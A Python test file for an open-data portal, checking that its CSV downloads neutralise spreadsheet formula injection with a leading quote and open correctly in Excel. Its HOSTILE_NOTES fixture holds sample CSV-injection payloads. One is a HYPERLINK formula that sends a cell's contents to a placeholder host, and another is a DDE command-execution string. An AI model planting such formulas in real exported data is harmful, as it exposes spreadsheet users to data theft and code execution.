"""Open data (issue 11, item 8): the CSV downloads are safe to open in a spreadsheet.

Every text cell that starts like a formula (OWASP "CSV Injection": = + - @ tab CR) is the
original with one leading `'`; every other cell, and every number, is exactly the original.
The files start with a UTF-8 byte-order mark, so Excel opens them by double-click.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.load import load_dataset
from portal.site.dictionary import csv_format, data_dictionary, tidy_columns
from portal.site.downloads import (
    COLUMNS,
    FORMULA_STARTS,
    NUMERIC_COLUMNS,
    download_files,
    tidy_rows,
    to_csv,
)
from tests.site.build import MINIMAL

BOM = b"\xef\xbb\xbf"
# Notes written as staff (or an attacker) might, one for each kind of formula start that
# survives the loader, and one harmless.
HOSTILE_NOTES = [
    '=HYPERLINK("https://example.invalid/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    'quoted "text", with a comma',
]


def _published(text: str) -> bytes:
    """The bytes MkDocs writes for a generated file given as text."""
    return text.encode()


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture(scope="module")
def hostile_dataset(tmp_path_factory):
    data = tmp_path_factory.mktemp("opendata") / "data"
    shutil.copytree(MINIMAL, data)
    outcomes = data / "2023-24" / "outcomes.csv"
    lines = outcomes.read_text(encoding="utf-8").splitlines()
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    rows = list(csv.reader(lines))
    note = rows[0].index("note")
    for i, row in enumerate(rows[1:]):
        row[note] = HOSTILE_NOTES[i % len(HOSTILE_NOTES)]
    writer.writerows(rows)
    outcomes.write_text(out.getvalue(), encoding="utf-8")
    return load_dataset(data)


def test_every_file_starts_with_a_bom_and_reads_back_with_utf_8_sig(hostile_dataset) -> None:
    files = download_files(hostile_dataset)
    assert files
    for name, text in files.items():
        data = _published(text)
        assert data.startswith(BOM), name
        assert not data[len(BOM) :].startswith(BOM), f"{name}: one BOM only"
        header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert header == list(COLUMNS), name
        data.decode("utf-8")  # strict: every byte is UTF-8


def test_every_cell_is_the_original_or_the_original_with_one_leading_quote(
    hostile_dataset,
) -> None:
    """Compare the published all-years file with the records it was made from, cell by cell."""
    originals = [r for year in hostile_dataset.years for r in tidy_rows(hostile_dataset, year)]
    published = _read(_published(download_files(hostile_dataset)["complaints.csv"]))[1:]
    assert len(published) == len(originals)
    neutralised = set()
    for record, cells in zip(originals, published, strict=True):
        for column, cell in zip(COLUMNS, cells, strict=True):
            original = record[column]
            if column not in NUMERIC_COLUMNS and original.startswith(FORMULA_STARTS):
                assert cell == "'" + original, (column, original, cell)
                neutralised.add(original[0])
            else:
                assert cell == original, (column, original, cell)
    # The fixture really carried a formula of each kind the loader lets through.
    assert {"=", "+", "-", "@"} <= neutralised
    assert any('"' in cell for row in published for cell in row), "quotes survive, doubled"


def test_numbers_are_never_touched_even_when_negative() -> None:
    """Decided by column, not by text: "-3" in `value` is a number; in `note` it is text."""
    assert set(COLUMNS) >= NUMERIC_COLUMNS
    record = {column: "-3" for column in COLUMNS}
    (row,) = _read(_published(to_csv([record])))[1:]
    for column, cell in zip(COLUMNS, row, strict=True):
        assert cell == ("-3" if column in NUMERIC_COLUMNS else "'-3"), column


_starts = st.sampled_from([*FORMULA_STARTS, "", "a", "'", " ", '"', ",", "1"])
_cells = st.tuples(_starts, st.text(max_size=12)).map("".join)


@given(st.lists(st.fixed_dictionaries({c: _cells for c in COLUMNS}), max_size=4))
def test_any_text_round_trips_exactly_with_the_owasp_rule(records) -> None:
    published = _read(_published(to_csv(records)))
    assert published[0] == list(COLUMNS)
    assert len(published) == len(records) + 1
    for record, row in zip(records, published[1:], strict=True):
        for column, cell in zip(COLUMNS, row, strict=True):
            original = record[column]
            dangerous = column not in NUMERIC_COLUMNS and original[:1] in FORMULA_STARTS
            assert cell == ("'" + original if dangerous else original)
            if column not in NUMERIC_COLUMNS:
                assert not cell.startswith(FORMULA_STARTS), "no cell starts like a formula"


@pytest.mark.parametrize("page", [tidy_columns, data_dictionary], ids=lambda f: f.__name__)
def test_the_data_dictionary_says_the_encoding_and_the_rule(page) -> None:
    html = page()
    assert csv_format() in html
    assert "UTF-8 with a byte order mark" in html
    for start in FORMULA_STARTS:
        named = {"\t": "a tab", "\r": "a carriage return"}.get(start, f"<code>{start}</code>")
        assert named in html, start


def test_no_other_machine_readable_data_file_is_published(tmp_path: Path) -> None:
    """The only files made from data are the CSVs (search_index.json is page text, escaped
    as HTML by the pages): if a JSON or XML export is added, it needs its own rule here."""
    from portal.site import hooks

    source = Path(hooks.__file__).read_text(encoding="utf-8")
    generated = [line for line in source.splitlines() if "File.generated(" in line]
    assert len(generated) == 3, generated  # year pages, chart CSS, downloads/
    assert sum("downloads/" in line for line in generated) == 1
